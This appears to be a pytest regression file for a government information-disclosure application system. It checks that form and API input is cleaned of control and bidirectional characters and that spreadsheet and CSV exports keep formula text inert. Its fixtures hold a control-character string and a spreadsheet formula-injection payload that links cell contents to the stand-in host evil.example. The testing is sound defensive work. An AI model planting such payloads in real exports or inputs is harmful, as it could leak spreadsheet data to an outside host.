"""Issue: a control character accepted from the public /apply/ form made the ledger export and the
DOCX answer letter fail with 500 (the applicant's status page too), and the report narrative the
same; text starting with "=" became a live formula in the exported XLSX."""

import io
from datetime import date

import pytest
from django.http import HttpResponse
from django.test import RequestFactory
from openpyxl import load_workbook

from xxgk.applications.ledger import export_applications
from xxgk.applications.models import Application
from xxgk.applications.services import act, document, register
from xxgk.middleware import CleanInputMiddleware
from xxgk.rules.applications import Action

HOSTILE = "张\x00三\x0b\u202e丰\x1b"
# What a database can hold: PostgreSQL refuses NUL in text outright, the other controls it stores.
STORABLE = HOSTILE.replace("\x00", "")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_every_submitted_value_is_cleaned_at_the_boundary():
    seen = {}

    def view(request):
        seen.update(post=request.POST.dict(), get=request.GET.dict())
        return HttpResponse("ok")

    request = RequestFactory().post(
        "/apply/?q=扶\x07贫", {"applicant_name": HOSTILE, "sought": "第一行\r\n第二行"}
    )
    assert CleanInputMiddleware(view)(request).status_code == 200
    assert seen["post"] == {"applicant_name": "张三丰", "sought": "第一行\n第二行"}
    assert seen["get"] == {"q": "扶贫"}
    huge = RequestFactory().post("/apply/", {"sought": "字" * 300_001})
    assert CleanInputMiddleware(view)(huge).status_code == 400


def test_json_bodies_of_the_api_are_cleaned_at_the_same_boundary():
    import json

    seen = {}

    def view(request):
        seen.update(json.loads(request.body))
        return HttpResponse("ok")

    body = {"title": HOSTILE, "items": [{"na\u202eme": "第一行\r\n第二行"}], "n": 3, "ok": True}
    request = RequestFactory().post("/api/v1/items", json.dumps(body), content_type="application/json")
    assert CleanInputMiddleware(view)(request).status_code == 200
    assert seen == {"title": "张三丰", "items": [{"name": "第一行\n第二行"}], "n": 3, "ok": True}
    huge = RequestFactory().post(
        "/api/v1/items", json.dumps({"body": "字" * 300_001}), content_type="application/json"
    )
    assert CleanInputMiddleware(view)(huge).status_code == 400
    broken = RequestFactory().post("/api/v1/items", "{not json", content_type="application/json")
    assert (
        CleanInputMiddleware(lambda r: HttpResponse(r.body))(broken).content == b"{not json"
    )  # the API says why


@pytest.fixture
def stored_hostile_case(office):
    """Text stored before the boundary existed, or by a path that skips it: writers must cope."""
    agency, p = office
    fields = {"applicant_kind": "natural", "applicant_name": FORMULA, "sought": STORABLE}
    app = register(agency, p["clerk"], fields, channel="in_person", received=date(2026, 3, 2)).application
    Application.objects.filter(pk=app.pk).update(applicant_name=STORABLE, sought=FORMULA)
    app.refresh_from_db()
    act(
        app, Action.DRAFT_ANSWER, p["clerk"], result="granted", on_date=date(2026, 3, 3), answer_text=STORABLE
    )
    app.refresh_from_db()
    return agency, p, app


def test_exports_and_letters_are_written_whatever_the_stored_text(stored_hostile_case):
    agency, p, app = stored_hostile_case
    sheet = load_workbook(io.BytesIO(export_applications(agency, "x.xlsx"))).active
    sought = next(c for c in sheet[2] if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert sought.data_type == "s" and sought.value == FORMULA  # text as typed, never a formula
    csv_text = export_applications(agency, "x.csv").decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_text and "\x00" not in csv_text
    assert document(app, "letter", "docx", p["clerk"])[:2] == b"PK"
    assert document(app, "letter", "pdf", p["clerk"])[:5] == b"%PDF-"


def test_the_report_narrative_exports_with_control_characters():
    from xxgk.reports.write.docx import render_docx
    from xxgk.reports.write.html import render_html
    from xxgk.rules.formats import SECTIONS
    from xxgk.rules.report import AnnualReport

    report = AnnualReport.blank("2021", fill=0, year=2025, agency="某局")
    report.with_standard_sections({k: f"正文{HOSTILE}" for k, _ in SECTIONS})
    assert render_docx(report)[:2] == b"PK"
    assert "\x00" not in render_html(report) and "张三丰" in render_html(report)


def test_a_would_be_formula_survives_a_csv_round_trip_as_typed():
    from xxgk.ledgers import read_table, write_table

    data = write_table(["编号", "申请内容"], [["A-1", FORMULA], ["A-2", "-3"]], "t.csv")
    assert data.decode("utf-8-sig").splitlines()[1].startswith("A-1,\"'=HYPERLINK")
    _, rows = read_table(data, "t.csv")
    assert [r[1]["申请内容"] for r in rows] == [FORMULA, "-3"]
